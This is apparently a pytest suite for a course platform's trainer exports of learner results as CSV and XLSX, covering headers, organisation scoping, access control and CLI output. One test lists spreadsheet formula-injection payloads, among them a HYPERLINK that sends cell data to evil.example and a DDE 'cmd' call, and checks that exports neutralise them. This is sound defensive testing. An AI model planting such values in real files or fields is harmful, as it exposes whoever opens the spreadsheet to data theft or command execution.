"""Exports of the cohort matrix and attempts: parsed back and compared, scoped, via pages and the CLI."""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl
import pytest
from click.testing import CliRunner

from course.cli import cli
from course.domain.roles import Role
from tests.conftest import FIXTURE_CONTENT_DIR

pytestmark = pytest.mark.usefixtures("use_fixture_course")


def parse_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def test_matrix_csv_and_xlsx_agree_and_are_scoped(client, auth, cohort):  # noqa: F811
    auth.login(cohort["trainer"].email)
    response = client.get("/trainer/export/matrix.csv")
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    rows = parse_csv(response.data)
    # Downloaded from the Polish interface: Polish headers and status words (the CLI keeps the codes).
    assert rows[0] == ["ID osoby", "Imię i nazwisko", "E-mail", "Moduł ukończony (UTC)", "M9_01.W1", "M9_01.U1", "M9_01.K1"]
    by_name = {row[1]: row for row in rows[1:]}
    assert set(by_name) == {"Alicja Pierwsza", "Bogdan Drugi"}  # not the other organisation's learner
    assert by_name["Alicja Pierwsza"][4:] == ["osiągnięty", "w trakcie", "czeka na trenera"]  # U1: practice and a failed test only
    assert by_name["Bogdan Drugi"][4:] == ["nierozpoczęty"] * 3
    response = client.get("/trainer/export/matrix.xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(response.data), read_only=True)
    sheet = [["" if v is None else str(v) for v in row] for row in workbook["matrix"].iter_rows(values_only=True)]
    workbook.close()
    response.close()
    assert sheet == rows


def test_attempts_export(client, auth, cohort):  # noqa: F811
    auth.login(cohort["trainer"].email)
    rows = parse_csv(client.get("/trainer/export/attempts.csv").data)
    assert rows[0][:4] == ["ID podejścia", "ID osoby", "Imię i nazwisko", "ID quizu"]
    assert rows[0][-1] == "Tytuł quizu" and not any(h in rows[0] for h in ("learner_id", "passed", "mode"))
    assert sorted((r[3], r[11]) for r in rows[1:]) == [("M9_01-competences", "ćwiczenie"), ("M9_01-knowledge", "ćwiczenie"),
                                                       ("M9_01-skills", "ćwiczenie"), ("M9_01-test", "test")]
    skills = next(r for r in rows[1:] if r[3] == "M9_01-skills")
    assert skills[9] == "" and skills[10] == "tak"  # passed unknown while the open answer waits
    assert skills[12] == "Sprawdź umiejętności"
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", r[5]) for r in rows[1:])  # UTC to the second


def test_export_access(client, auth, cohort, make_user):  # noqa: F811
    assert client.get("/trainer/export/matrix.csv").status_code == 302
    auth.login(cohort["alice"].email)
    assert client.get("/trainer/export/matrix.csv").status_code == 403
    auth.logout()
    auth.login(cohort["trainer"].email)
    assert client.get("/trainer/export/secrets.csv").status_code == 404
    assert client.get("/trainer/export/matrix.pdf").status_code == 404


def test_cli_export_results(cohort, database_url, monkeypatch, tmp_path):  # noqa: F811
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("COURSE_CONTENT_DIR", str(FIXTURE_CONTENT_DIR))
    runner = CliRunner()
    as_json = runner.invoke(cli, ["export", "results", "--format", "json", "--org", cohort["org"].slug], catch_exceptions=False)
    data = json.loads(as_json.stdout)
    assert {row["name"] for row in data} == {"Alicja Pierwsza", "Bogdan Drugi"}
    everyone = runner.invoke(cli, ["export", "results", "--what", "matrix"], catch_exceptions=False)
    assert "Zofia Obca" in everyone.stdout
    assert everyone.stdout.lstrip("\ufeff").startswith("learner_id,name,email,module_complete")  # the CLI keeps the codes
    assert "attained" in everyone.stdout and "osiągnięty" not in everyone.stdout
    target = tmp_path / "attempts.xlsx"
    runner.invoke(cli, ["export", "results", "--what", "attempts", "--format", "xlsx", "--output", str(target)], catch_exceptions=False)
    workbook = openpyxl.load_workbook(target, read_only=True)
    assert workbook["attempts"].max_row == 5  # header and four attempts
    workbook.close()
    bad = runner.invoke(cli, ["export", "results", "--org", "nope"])
    assert bad.exit_code == 2 and "no organisation with slug 'nope'" in bad.stderr
    assert runner.invoke(cli, ["export", "results", "--format", "xlsx"]).exit_code == 2


def test_learner_role_is_checked_for_staff_only(make_user):
    assert Role.TRAINER.is_staff and not Role.LEARNER.is_staff


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Kliknij")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\uff1dSUM(1)"]


def test_hostile_names_never_become_formulas(client, auth, cohort, make_user, in_app):  # noqa: F811
    import zipfile

    from sqlalchemy import update

    from course.extensions import db
    from course.models import User

    ids = [make_user(Role.LEARNER, org=cohort["org"], name=f"Osoba {n}").id for n in range(len(HOSTILE))]

    def rename():  # names as self-registration would have stored them before control characters were refused
        for user_id, name in zip(ids, HOSTILE, strict=True):
            db.session.execute(update(User).where(User.id == user_id).values(name=name))
        db.session.commit()

    in_app(rename)
    auth.login(cohort["trainer"].email)
    rows = parse_csv(client.get("/trainer/export/matrix.csv").data)
    names = {row[1] for row in rows[1:]}
    assert {"'" + name for name in HOSTILE} <= names
    response = client.get("/trainer/export/matrix.xlsx")
    data = response.data
    response.close()
    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml, "no formula cell at all"
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    cells = {cell.value for row in workbook["matrix"].iter_rows() for cell in row}
    assert {"'" + name for name in HOSTILE} <= cells
    assert all(cell.data_type != "f" for row in workbook["matrix"].iter_rows() for cell in row)
    workbook.close()


def test_xlsx_dates_are_date_cells_and_booleans_booleans(client, auth, cohort):  # noqa: F811
    from datetime import datetime

    auth.login(cohort["trainer"].email)
    response = client.get("/trainer/export/attempts.xlsx")
    data = response.data
    response.close()
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    rows = list(workbook["attempts"].iter_rows(values_only=True))
    workbook.close()
    header = rows[0]
    knowledge = next(dict(zip(header, r, strict=True)) for r in rows[1:] if r[3] == "M9_01-knowledge")
    assert isinstance(knowledge["Rozpoczęte (UTC)"], datetime) and isinstance(knowledge["Wysłane (UTC)"], datetime)
    assert isinstance(knowledge["Zaliczone"], bool) and knowledge["Czeka na ocenę"] is False
    assert isinstance(knowledge["Wynik (pkt)"], int | float)
